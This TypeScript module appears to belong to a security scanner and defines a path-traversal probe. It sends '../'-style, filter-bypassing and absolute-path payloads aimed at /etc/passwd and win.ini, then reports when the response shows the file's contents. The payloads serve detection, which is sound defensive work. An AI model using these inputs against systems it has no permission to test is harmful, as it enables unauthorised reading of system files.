// A name that leads out of its folder: proven by the content of a file that every machine has and everybody may read (CWE-22).
import { type Attack, bodyText, takesText } from "./attack.ts";

const UP = "../".repeat(12);

/** A file and what it holds on any machine. */
const FILES: readonly (readonly [name: string, holds: RegExp])[] = [
  [`${UP}etc/passwd`, /^root:[^:\n]*:0:0:/m],
  ["/etc/passwd", /^root:[^:\n]*:0:0:/m],
  [`${"....//".repeat(12)}etc/passwd`, /^root:[^:\n]*:0:0:/m],
  [`${"..\\".repeat(12)}windows\\win.ini`, /^\[fonts\]/im],
];

export const traversal: Attack = {
  rule: "dynamic.path-traversal",
  suits: takesText,
  async run(aim) {
    for (const [name, holds] of FILES) {
      // oxlint-disable-next-line no-await-in-loop -- the first that shows ends it
      const sent = await aim.send(name);
      if (sent === undefined) continue;
      const text = bodyText(sent)
        .replaceAll("\\n", "\n")
        .replace(/^[^\n]*?"(?=root:)/, "");
      if (!holds.test(text)) continue;
      return {
        what: "file",
        message: `${aim.slot.label} may name any file of the machine`,
        evidence: [sent],
        say: [`the answer holds ${name.replaceAll(/^[./\\]+/g, "/")}`],
        confidence: "certain",
      };
    }
    return undefined;
  },
};
